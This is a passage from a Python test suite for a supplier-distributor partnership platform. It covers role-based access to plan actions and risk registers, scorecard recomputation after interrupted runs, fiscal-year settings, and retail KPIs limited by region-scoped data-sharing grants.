    reopened = supplier.patch(
        f"/api/v1/plan-actions/{action['id']}", json={"status": "open"}, headers=token
    )
    assert reopened.status_code == 200, reopened.get_json()
    assert reopened.get_json()["data"]["completed_on"] is None
    refused = distributor.patch(
        f"/api/v1/plan-actions/{action['id']}",
        json={"status": "done"},
        headers={"X-CSRFToken": csrf_token(distributor, pair_page)},
    )
    assert refused.status_code == 403


def test_the_manager_keeps_the_risk_register_and_nobody_else_does(hub, app, admin, pair, reviewed):
    pid = pair["id"]
    manager = sign_in(app, pair["manager"])
    new = f"/reviews/pairs/{pid}/risks/new"
    bad = form_post(
        manager, new, {"title": "Flood", "likelihood": "6", "impact": "2", "status": "open"}, new
    )
    assert bad.status_code == 422
    assert "likelihood" in bad.get_data(as_text=True)
    made = form_post(
        manager,
        new,
        {
            "title": "Flood",
            "likelihood": "2",
            "impact": "5",
            "status": "open",
            "review_date": "2027-03-01",
        },
        new,
    )
    assert made.status_code == 302
    (risk,) = admin.read_items(
        "risks", filter={"_and": [{"partnership": {"_eq": pid}}, {"title": {"_eq": "Flood"}}]}
    )
    edit = f"/reviews/risks/{risk['id']}"
    assert 'value="Flood"' in manager.get(edit).get_data(as_text=True)
    form_post(
        manager,
        edit,
        {
            "title": "Flood",
            "likelihood": "4",
            "impact": "5",
            "status": "mitigating",
            "mitigation": "Move stock",
        },
        edit,
    )
    changed = admin.read_item("risks", risk["id"])
    assert (changed["likelihood"], changed["status"], changed["mitigation"]) == (
        4,
        "mitigating",
        "Move stock",
    )
    supplier = sign_in(app, make_user(admin, "supplier_user", pair["supplier"]))
    assert supplier.get(edit).status_code == 403
    assert supplier.get(new).status_code == 403
    other = sign_in(app, make_user(admin, "account_manager", make_org(admin, "operator")))
    assert other.get(edit).status_code == 404
    assert other.get(new).status_code == 403


class _StopsAfter(JobContext):
    """A run whose scheduler is asked to stop once the job has checked ``calls`` times."""

    def __init__(self, hub: HubClient, pair: int, calls: int) -> None:
        super().__init__(
            hub=hub,
            job_id="scorecards.compute",
            run_id=str(uuid.uuid4()),
            settings={"quarters": 5, "pairs": [pair]},
        )
        self.left = calls

    @property
    def stopping(self) -> bool:
        self.left -= 1
        return self.left < 0


def test_a_run_stopped_while_writing_is_finished_by_the_next(admin, sync, pair):
    """The scheduler stopping mid-run (SIGTERM) leaves a changed scorecard marked
    unfinished, never half-right: the next run writes it whole."""
    run(sync)  # what earlier tests changed, settled first
    line = pair["ids"]["perfect_invoice_line"]
    admin.update_item("invoice_lines", line, {"qty": 58})
    stopped = _StopsAfter(sync, pair["id"], calls=1)  # past the pair, before the values
    compute_scorecards(stopped)
    assert stopped.counts["stopped"] == 1
    half = card(admin, pair["id"], "month", "2026-12-01")
    assert (half["digest"], half["values"]) == (None, [])
    again = run(sync)
    assert again["updated"] == 3  # W51, December and Q4, whole
    whole = card(admin, pair["id"], "month", "2026-12-01")
    assert whole["digest"]
    assert whole["by_kpi"]["perfect_order"]["value"] == "0.0"
    admin.update_item("invoice_lines", line, {"qty": 60})
    assert run(sync)["updated"] == 3


def test_an_operator_sets_a_pairs_scorecard_and_the_next_run_follows_it(hub, admin, sync, pair):
    """A fiscal year from February: the pair's quarters cross the year (Nov-Jan), and its
    headline OTIF is by unit against the request."""
    from click.testing import CliRunner

    from tandem.cli import cli

    env = {
        "TANDEM_HUB_ADMIN_EMAIL": hub.admin_email,
        "TANDEM_HUB_ADMIN_PASSWORD": hub.admin_password,
    }
    args = [
        "partner",
        "scorecard",
        "--supplier",
        str(pair["supplier"]["id"]),
        "--distributor",
        str(pair["distributor"]["id"]),
        "--hub-url",
        hub.url,
    ]
    bad = CliRunner().invoke(cli, [*args, "--fiscal-start-month", "13"], env=env)
    assert bad.exit_code == 2
    done = CliRunner().invoke(
        cli,
        [*args, "--otif-level", "unit", "--otif-basis", "requested", "--fiscal-start-month", "2"],
        env=env,
    )
    assert done.exit_code == 0, done.output
    try:
        counts = run(sync)
        assert counts["deleted"] > 0  # the calendar quarters are gone
        quarters = admin.read_items(
            "scorecards",
            filter={"_and": [{"partnership": {"_eq": pair["id"]}}, {"grain": {"_eq": "quarter"}}]},
            fields=["label", "period_start", "period_end"],
            sort=["period_start"],
            limit=-1,
        )
        assert quarters[-1] == {
            "label": "FY2026-Q4",
            "period_start": "2026-11-01",
            "period_end": "2027-01-31",
        }
        assert all(q["label"].startswith("FY") for q in quarters)
        audit = admin.read_items(
            "audit_log",
            filter={"action": {"_eq": "partnership.scorecard_settings"}},
            fields=["detail"],
        )
        assert audit[-1]["detail"]["fiscal_start_month"] == 2
    finally:
        admin.update_item("partnerships", pair["id"], {"scorecard_settings": None})
        run(sync)


# -- sell-through, weeks of supply, in-stock and promotions, as shared -------------------


def test_the_retail_figures_come_only_from_what_the_distributor_shares(hub, app, admin, sync):
    """Sell-through, weeks of supply, in-stock and promotion uplift, by hand, from the
    east store only: the agreement shares the east region, so the west store's sales and
    stock, and another supplier's at the same store, count nowhere. Revoked, they go."""
    from directus.bulk import open_lane, write_rows
    from governance import sharing
    from tests.factories import make_store

    supplier, distributor = make_org(admin, "supplier"), make_org(admin, "distributor")
    pid = ensure_partnership(admin, supplier["id"], distributor["id"])
    other = make_org(admin, "supplier")
    ensure_partnership(admin, other["id"], distributor["id"])
    sku, sku2, foreign = (
        make_sku(admin, supplier)["id"],
        make_sku(admin, supplier)["id"],
        make_sku(admin, other)["id"],
    )
    east = make_store(admin, distributor, "E1", "east")["id"]
    west = make_store(admin, distributor, "W1", "west")["id"]
    d = distributor["id"]
    mondays = [dt.date(2026, 11, 2) + dt.timedelta(days=7 * k) for k in range(9)]  # to 28 Dec
    pos = []
    for monday in mondays:
        wednesday = monday + dt.timedelta(days=2)
        units = 20 if monday == dt.date(2026, 12, 7) else 10  # the promotion's week
        pos += [
            (d, east, sku, wednesday, units, units * 100, "USD"),
            (d, west, sku, wednesday, 1000, 100_000, "USD"),  # outside the region
            (d, east, foreign, wednesday, 5000, 500_000, "USD"),  # another supplier's
        ]
    stock = [
        (d, east, sku, dt.date(2026, 12, 15), 50, 0, 0),
        (d, east, sku2, dt.date(2026, 12, 15), 10, 0, 0),
        (d, east, sku, dt.date(2026, 12, 31), 30, 0, 0),
        (d, east, sku2, dt.date(2026, 12, 31), 0, 0, 0),
        (d, west, sku, dt.date(2026, 12, 31), 999, 0, 0),
        (d, east, foreign, dt.date(2026, 12, 31), 0, 0, 0),
    ]
    with open_lane(hub.lane_url) as lane:
        write_rows(lane, "pos", pos)
        write_rows(lane, "inventory", stock)
    at_east = admin.create_item(
        "promotions",
        {"name": "East TPR", "type": "tpr", "start_date": "2026-12-07",
         "end_date": "2026-12-13", "expected_uplift_pct": 50, "status": "accepted",
         "partnership": pid},
    )  # fmt: skip
    everywhere = admin.create_item(
        "promotions",
        {"name": "Chain TPR", "type": "tpr", "start_date": "2026-12-14",
         "end_date": "2026-12-20", "expected_uplift_pct": 10, "status": "accepted",
         "partnership": pid},
    )  # fmt: skip
    for promo in (at_east, everywhere):
        admin.create_item(
            "promotion_skus", {"promotion": promo["id"], "sku": sku, "partnership": pid}
        )
    admin.create_item(
        "promotion_locations", {"promotion": at_east["id"], "location": east, "partnership": pid}
    )
    granted = sharing.grant(
        admin, d, supplier["id"], ["pos", "inventory"], valid_from=dt.date(2026, 10, 1),
        regions=["east"], via="test",
    )  # fmt: skip

    def december() -> dict:
        ctx = JobContext(
            hub=sync,
            job_id="scorecards.compute",
            run_id=str(uuid.uuid4()),
            settings={"quarters": 5, "pairs": [pid]},
        )
        compute_scorecards(ctx)
        assert ctx.counts["failed"] == 0, dict(ctx.counts)
        return card(admin, pid, "month", "2026-12-01")["by_kpi"]

    plan = admin.create_item(
        "business_plans", {"partnership": pid, "year": 2026, "status": "active"}
    )
    admin.create_item(
        "plan_actions",
        {"plan": plan["id"], "partnership": pid, "title": "Reset the shelf",
         "owner_side": "supplier", "status": "open", "due_date": "2026-12-18"},
    )  # fmt: skip
    kpi = december()
    # Sold in December's weeks (30 Nov .. 28 Dec): 10 + 20 + 10 + 10 + 10 = 60; on hand at
    # the last snapshot (31 Dec): 30 + 0. 60 ÷ 90 = 66.7 %.
    assert (kpi["sell_through"]["numerator"], kpi["sell_through"]["denominator"]) == ("60", "90")
    assert kpi["sell_through"]["value"] == "66.7"
    # 30 on hand ÷ (20 + 10 + 10 + 10) ÷ 4 = 12.5 a week: 2.4 weeks.
    assert (kpi["wos"]["value"], kpi["wos"]["unit"]) == ("2.4", "weeks")
    # Store-SKU-days with stock: 2 of 2 on 15 Dec, 1 of 2 on 31 Dec.
    assert (kpi["in_stock"]["numerator"], kpi["in_stock"]["denominator"]) == ("3", "4")
    # The east promotion: 10 a week before, 20 during: +100 %, over its plan of 50. The
    # chain-wide one is not shared at every store: not counted.
    assert (kpi["promo.uplift"]["value"], kpi["promo.uplift"]["basis"]) == (
        "100.0",
        [at_east["id"]],
    )
    assert (kpi["promo.on_plan"]["value"], kpi["promo.on_plan"]["misses"]) == ("100.0", [])
    assert kpi["promo.uplift"]["collection"] == "promotions"
    # The figure drills down to the pair's sell-through page for December's weeks.
    seller = factories.sign_in(app, make_user(admin, "supplier_user", supplier),
                               remote_addr="10.13.1.1")  # fmt: skip
    december_card = card(admin, pid, "month", "2026-12-01")["id"]
    page = seller.get(f"/reviews/scorecards/{december_card}/sell_through").get_data(as_text=True)
    assert "66.7 %" in page
    assert f"pair={pid}&amp;from=2026-11-30&amp;to=2027-01-03" in page
    page = seller.get(f"/reviews/scorecards/{december_card}/promo.uplift").get_data(as_text=True)
    assert "East TPR" in page
    assert "Chain TPR" not in page

    sharing.revoke(admin, int(granted["id"]), via="test")
    kpi = december()  # the plan's action still gives the pair a scorecard
    for name in ("sell_through", "wos", "in_stock", "promo.uplift", "promo.on_plan"):
        assert kpi[name]["value"] is None, name
        assert (kpi[name]["numerator"], kpi[name]["denominator"]) == ("0", "0"), name


def test_a_grant_or_revocation_asks_a_running_scheduler_to_rescore(admin):
    from governance import sharing
    from governance.scheduler import SCORECARDS_JOB

    supplier, distributor = make_org(admin, "supplier"), make_org(admin, "distributor")
    asked = {"job_id": {"_eq": SCORECARDS_JOB}}
    before = len(admin.read_items("sync_requests", filter=asked, fields=["id"], limit=-1))
    # No scheduler has declared its jobs: there is nothing stored to correct.
    granted = sharing.grant(
        admin, distributor["id"], supplier["id"], ["pos"], valid_from=TODAY, via="test"
    )
    assert len(admin.read_items("sync_requests", filter=asked, fields=["id"], limit=-1)) == before
    admin.create_item("sync_jobs", {"id": SCORECARDS_JOB, "description": "declared"})
    sharing.revoke(admin, int(granted["id"]), via="test")
    pending = admin.read_items(
        "sync_requests", filter={"_and": [asked, {"status": {"_eq": "pending"}}]}, limit=-1
    )
    assert len(pending) == before + 1
    # One pending run covers the next change too.
    sharing.grant(admin, distributor["id"], supplier["id"], ["pos"], valid_from=TODAY, via="test")
    assert len(admin.read_items("sync_requests", filter=asked, fields=["id"], limit=-1)) == (
        before + 1
    )
